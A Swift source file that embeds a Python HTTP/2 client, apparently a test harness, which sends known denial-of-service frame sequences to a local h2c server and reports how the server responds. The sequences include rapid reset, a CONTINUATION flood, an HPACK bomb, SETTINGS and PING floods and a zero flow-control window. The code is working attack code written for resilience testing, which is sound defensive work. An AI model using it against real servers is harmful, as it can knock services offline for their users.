/// A Python 3 HTTP/2 client (`hyperframe` and `hpack`, which come with Python's `h2`,
/// installed by scripts/setup.sh)
/// that sends the frame sequences of known HTTP/2 attacks to a plaintext h2c listener and
/// prints, as one JSON object, what the server did about it:
/// `{"outcome": "goaway", "error": CODE}`, `{"outcome": "closed"}`,
/// `{"outcome": "status", "status": N}`, `{"outcome": "reset", "error": CODE}` or
/// `{"outcome": "nothing"}` (the server kept the connection and said nothing in time).
///
/// `h2attack.py PORT MODE [N]`:
/// - `rapid-reset N`: N streams each opened and at once cancelled (CVE-2023-44487)
/// - `continuation N`: one HEADERS without END_HEADERS, then N CONTINUATION frames
/// - `hpack-bomb`: a 4 KiB field stored in the HPACK table, then a request naming it 100 times
/// - `big-header`: a request with a 40 KiB field value
/// - `settings-flood N`, `ping-flood N`: N SETTINGS or PING frames, no ACK read meanwhile
/// - `empty-data N`: a POST whose body is N empty DATA frames
/// - `zero-window`: SETTINGS_INITIAL_WINDOW_SIZE 0, a request for a large body, no WINDOW_UPDATE
/// - `stream-ids`: a request on stream 2^31-1, then one on a lower id (`then`: what that got)
enum HTTP2AttackScript {
    static let source = #"""
import json, socket, sys, time
from hyperframe.frame import HeadersFrame, ContinuationFrame, DataFrame, PingFrame, SettingsFrame, RstStreamFrame
from hpack import Decoder, Encoder

port, mode = int(sys.argv[1]), sys.argv[2]
count = int(sys.argv[3]) if len(sys.argv) > 3 else 0
sock = socket.create_connection(("127.0.0.1", port))
sock.settimeout(10)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
encoder = Encoder()

def request_block(path="/echo", extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "attack.test"), (":path", path)] + list(extra))

def send(data):
    try:
        sock.sendall(data)
        return True
    except OSError:
        return False

def send_all(frames):
    """Sends frames in 64 KiB writes; reports a closed connection if a write fails."""
    out = bytearray()
    for frame in frames:
        out += frame
        if len(out) > 65536:
            if not send(bytes(out)):
                report({"outcome": "closed"})
            out = bytearray()
    send(bytes(out))

def report(result):
    print(json.dumps(result))
    sys.exit(0)

def watch(seconds=8, stream=None):
    """Reads frames until a GOAWAY, a reset or a response on `stream`, or the end."""
    deadline = time.time() + seconds
    buffer = b""
    while time.time() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        except OSError:
            return {"outcome": "closed"}
        if not data:
            return {"outcome": "closed"}
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[0:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags, sid = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == 7:
                return {"outcome": "goaway", "error": int.from_bytes(payload[4:8], "big")}
            if kind == 3 and (stream is None or sid == stream):
                return {"outcome": "reset", "error": int.from_bytes(payload[0:4], "big")}
            if kind == 1 and stream is not None and sid == stream:
                fields = Decoder().decode(payload[5:] if flags & 0x20 else payload)
                status = dict(fields).get(":status", dict(fields).get(b":status"))
                return {"outcome": "status", "status": int(status)}
    return {"outcome": "nothing"}

send(PREFACE + SettingsFrame(0, settings={} if mode != "zero-window" else {4: 0}).serialize())

if mode == "rapid-reset":
    send_all(HeadersFrame(1 + 2 * i, request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize()
             + RstStreamFrame(1 + 2 * i, error_code=8).serialize() for i in range(count))
    report(watch())
elif mode == "continuation":
    block = request_block()
    send(HeadersFrame(1, block, flags=["END_STREAM"]).serialize())
    for i in range(count):
        piece = encoder.encode([("x-filler-%d" % i, "v")])
        if not send(ContinuationFrame(1, piece).serialize()):
            report({"outcome": "closed"})
    report(watch())
elif mode == "hpack-bomb":
    big = "b" * 4000
    send(HeadersFrame(1, request_block("/echo", [("x-big", big)]), flags=["END_HEADERS", "END_STREAM"]).serialize())
    # The field is now entry 62 of the table: naming it costs one byte per repeat.
    block = request_block("/echo") + bytes([0x80 | 62]) * 100
    send(HeadersFrame(3, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    report(watch(stream=3))
elif mode == "big-header":
    block = request_block("/echo", [("x-big", "b" * 40000)])
    frames = bytearray(HeadersFrame(1, block[:16000]).serialize())
    rest = block[16000:]
    while rest:
        piece, rest = rest[:16000], rest[16000:]
        frames += ContinuationFrame(1, piece, flags=[] if rest else ["END_HEADERS"]).serialize()
    # END_STREAM is on the HEADERS frame.
    frames[4] |= 0x1
    send(bytes(frames))
    report(watch(stream=1))
elif mode in ("settings-flood", "ping-flood"):
    send_all((SettingsFrame(0, settings={}) if mode == "settings-flood" else PingFrame(0, opaque_data=i.to_bytes(8, "big"))).serialize()
             for i in range(count))
    report(watch())
elif mode == "empty-data":
    block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "attack.test"), (":path", "/echo")])
    send(HeadersFrame(1, block, flags=["END_HEADERS"]).serialize())
    send_all(DataFrame(1, b"").serialize() for i in range(count))
    report(watch())
elif mode == "zero-window":
    send(HeadersFrame(1, request_block("/bytes/10000000"), flags=["END_HEADERS", "END_STREAM"]).serialize())
    result = watch(seconds=12, stream=1)
    if result.get("outcome") == "status":
        # The head arrived; the body cannot. Wait for what the server does about the stall.
        result = watch(seconds=12, stream=1)
    report(result)
elif mode == "stream-ids":
    send(HeadersFrame(2147483647, request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize())
    first = watch(stream=2147483647)
    # Stream ids only grow: a lower one after the last is never a new request.
    send(HeadersFrame(5, request_block(), flags=["END_HEADERS", "END_STREAM"]).serialize())
    first["then"] = watch(seconds=3, stream=5)
    report(first)
"""#
}
